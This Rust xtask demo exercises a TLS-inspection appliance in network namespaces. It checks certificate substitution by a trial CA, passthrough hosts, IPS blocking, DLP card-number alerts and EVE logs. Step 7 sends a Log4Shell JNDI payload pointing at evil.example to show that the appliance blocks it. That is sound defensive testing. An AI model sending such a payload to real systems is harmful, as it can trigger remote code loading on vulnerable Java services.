//! `cargo xtask demo`: the appliance between a real client and a real server, in network
//! namespaces on 198.18.0.0/15, with the example policy from docs/example-config.toml.

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use anyhow::{bail, Context, Result};
use tls_inspect_tests::pki::TestPki;
use tls_inspect_tests::tlsbed::{nginx, TRIAL_ISSUER};
use tls_inspect_tests::{check, wait_until, Topology, SERVER_IP};

fn step(n: u32, text: &str) {
    println!("\n\x1b[1m== {n}. {text}\x1b[0m");
}

fn show(cmd: &mut Command) -> Result<()> {
    let out = cmd.output().with_context(|| format!("running {cmd:?}"))?;
    print!("{}", String::from_utf8_lossy(&out.stdout));
    eprint!("{}", String::from_utf8_lossy(&out.stderr));
    Ok(())
}

pub fn run(bin: &Path) -> Result<()> {
    // SAFETY: single-threaded at this point; the test bed reads this variable.
    unsafe { std::env::set_var("TLS_INSPECT_BIN", bin) };
    let config = std::fs::read_to_string(crate::root().join("docs/example-config.toml"))?;

    step(1, "topology: client 198.18.0.1 <-> [inside | appliance | outside] <-> server 198.18.0.2");
    let mut t = Topology::new()?;
    let mut checks = Checks::default();
    println!("namespaces {}, {}, {}", t.client.0, t.appliance.0, t.server.0);

    step(2, "a trial CA (tls-inspect ca trial), and a test PKI the appliance trusts upstream");
    let ca_dir = t.dir.join("ca");
    show(Command::new(bin).args(["ca", "--dir"]).arg(&ca_dir).arg("trial"))?;
    let pki = TestPki::new(&t.dir)?;
    let server = pki.server("server", &["server.demo", "passthrough.demo", SERVER_IP], "root", None)?;
    let eve = t.dir.join("eve.json");
    let config = format!(
        "{config}\n[tls]\ninspect = true\nca_dir = \"{}\"\nextra_roots = [\"{}\"]\ndo_not_inspect_hosts = [\"passthrough.demo\"]\n\n[ips]\nenabled = true\nmode = \"block\"\n\n[log]\neve = \"{}\"\n",
        ca_dir.display(),
        pki.root.display(),
        eve.display()
    );

    step(3, "tls-inspect run with the example policy (docs/example-config.toml) and TLS inspection on");
    t.start_appliance(&config)?;
    show(t.cli().args(["scope", "list"]))?;

    step(4, "ping and plain HTTP on port 80: not in any scope, bridged inside XDP");
    let ping = t.client.cmd("ping").args(["-c", "2", "-i", "0.2", SERVER_IP]).output().context("running ping")?;
    print!("{}", String::from_utf8_lossy(&ping.stdout));
    checks.expect("ping answered through the XDP bridge", ping.status.success());
    let mut http = t.server.cmd("python3");
    http.args(["-m", "http.server", "--bind", SERVER_IP, "80", "--directory", "/etc"]);
    t.spawn(http)?;
    t.wait_listening(&t.server.clone(), 80)?;
    let code = check(t.client.cmd("curl").args(["-sS", "-o", "/dev/null", "-w", "%{http_code}", &format!("http://{SERVER_IP}/hostname")]))?;
    println!("curl http://{SERVER_IP}/hostname -> HTTP {code}");
    checks.expect("plain HTTP on port 80 answered through the XDP bridge", code.trim() == "200");

    step(5, "HTTPS to server.demo matches scope 1 and is inspected: curl trusts only the trial CA");
    nginx(&mut t, &server)?;
    let trial_ca = ca_dir.join("ca.crt");
    println!("curl --cacert trial-CA https://server.demo/");
    let got = https(&t, "server.demo", &trial_ca, &[])?;
    got.print();
    checks.expect("server.demo is answered under a certificate the trial CA signed", got.code == "200" && got.issuer.contains(TRIAL_ISSUER));

    step(6, "passthrough.demo is a Do-Not-Inspect host: curl sees the server's own certificate");
    println!("curl --cacert test-root https://passthrough.demo/");
    let got = https(&t, "passthrough.demo", &pki.root, &[])?;
    got.print();
    checks.expect("passthrough.demo is answered under the server's own certificate", got.code == "200" && !got.issuer.is_empty() && !got.issuer.contains(TRIAL_ISSUER));

    step(7, "the IPS on the decrypted stream: a Log4Shell request is blocked, a card number is reported");
    println!("curl -g 'https://server.demo/?q=${{jndi:ldap://evil.example/a}}'");
    let got = https(&t, "server.demo/?q=${jndi:ldap://evil.example/a}", &trial_ca, &["-g"])?;
    got.print();
    checks.expect("the Log4Shell request gets the 403 block page", got.code == "403" && got.body.contains("Blocked"));
    println!("curl --data 'card=4111 1111 1111 1111' https://server.demo/");
    let got = https(&t, "server.demo/", &trial_ca, &["--http1.1", "--data", "card=4111 1111 1111 1111"])?;
    got.print();
    checks.expect("the POST with a card number reaches the server (DLP action: alert)", got.code == "200");

    step(8, "the log: one EVE-style JSON line per flow, per alert and per DLP finding");
    let records = || -> Vec<serde_json::Value> {
        std::fs::read_to_string(&eve).unwrap_or_default().lines().filter_map(|l| serde_json::from_str(l).ok()).collect()
    };
    let flow = |r: &serde_json::Value, sni: &str, decision: &str| r["event_type"] == "tls" && r["tls"]["sni"] == sni && r["tls_inspect"]["decision"] == decision;
    // Four TLS flows, an alert and a DLP finding; flow lines are written when a flow closes.
    let _ = wait_until("the demo's EVE records", Duration::from_secs(10), || Ok(records().len() >= 6));
    let records = records();
    for line in &records {
        println!("{line}");
    }
    checks.expect("EVE: server.demo flows logged as inspected", records.iter().any(|r| flow(r, "server.demo", "inspected")));
    checks.expect("EVE: the passthrough.demo flow logged as passed", records.iter().any(|r| flow(r, "passthrough.demo", "passed")));
    checks.expect(
        "EVE: an alert with action blocked for the Log4Shell rule",
        records.iter().any(|r| r["event_type"] == "alert" && r["alert"]["action"] == "blocked" && r["alert"]["signature"].as_str().is_some_and(|s| s.contains("Log4Shell"))),
    );
    checks.expect(
        "EVE: a payment_card DLP finding, the number redacted",
        records.iter().any(|r| r["event_type"] == "dlp" && r["tls_inspect"]["dlp"]["detector"] == "payment_card" && r["tls_inspect"]["dlp"]["sample"] == "4111********1111"),
    );

    step(9, "tls-inspect stats");
    show(t.cli().arg("stats"))?;

    step(10, "teardown: appliance stopped (its XDP program would keep bridging), then detached; namespaces and pins removed");
    let status = t.stop_appliance();
    println!("appliance exited: {status:?}");
    show(t.cli().arg("detach"))?;
    drop(t);
    checks.finish()
}

/// What one curl through the appliance observed.
struct Https {
    code: String,
    issuer: String,
    body: String,
    said: Vec<String>,
}

impl Https {
    fn print(&self) {
        for line in &self.said {
            println!("  {line}");
        }
        for line in self.body.lines().filter(|l| l.contains("Blocked") || l.contains("sid") || l.contains("hello") || l.contains("posted")) {
            println!("  body: {}", line.trim());
        }
        println!("  -> HTTP {}", if self.code == "000" { "none (the connection failed)" } else { &self.code });
    }
}

/// curl from the client to `target` (every name resolves to the server), trusting only `ca`.
fn https(t: &Topology, target: &str, ca: &Path, extra: &[&str]) -> Result<Https> {
    let out = t
        .client
        .cmd("curl")
        .args(["-sS", "-v", "--max-time", "10", "--connect-to", "::198.18.0.2:", "-w", "\n%{http_code}", "--cacert"])
        .arg(ca)
        .args(extra)
        .arg(format!("https://{target}"))
        .output()
        .context("running curl")?;
    let stdout = String::from_utf8_lossy(&out.stdout);
    let (body, code) = stdout.rsplit_once('\n').unwrap_or(("", &stdout));
    let stderr = String::from_utf8_lossy(&out.stderr);
    let said: Vec<String> = stderr
        .lines()
        .filter(|l| l.contains("issuer:") || l.contains("subject:") || l.contains("SSL connection") || l.starts_with("< HTTP") || l.starts_with("curl: "))
        .map(|l| l.trim_start_matches("* ").trim().to_string())
        .collect();
    let issuer = said.iter().find_map(|l| l.strip_prefix("issuer:")).unwrap_or_default().trim().to_string();
    Ok(Https { code: code.trim().to_string(), issuer, body: body.to_string(), said })
}

/// The demo's claims, each from what it observed; the demo fails when one does not hold.
#[derive(Default)]
struct Checks {
    failed: Vec<&'static str>,
    passed: usize,
}

impl Checks {
    fn expect(&mut self, claim: &'static str, held: bool) {
        if held {
            self.passed += 1;
            println!("  \x1b[32mobserved\x1b[0m: {claim}");
        } else {
            self.failed.push(claim);
            println!("  \x1b[31mNOT observed\x1b[0m: {claim}");
        }
    }

    fn finish(self) -> Result<()> {
        println!("\n{} of {} demo checks observed", self.passed, self.passed + self.failed.len());
        if !self.failed.is_empty() {
            bail!("the demo did not observe: {}", self.failed.join("; "));
        }
        println!("done");
        Ok(())
    }
}
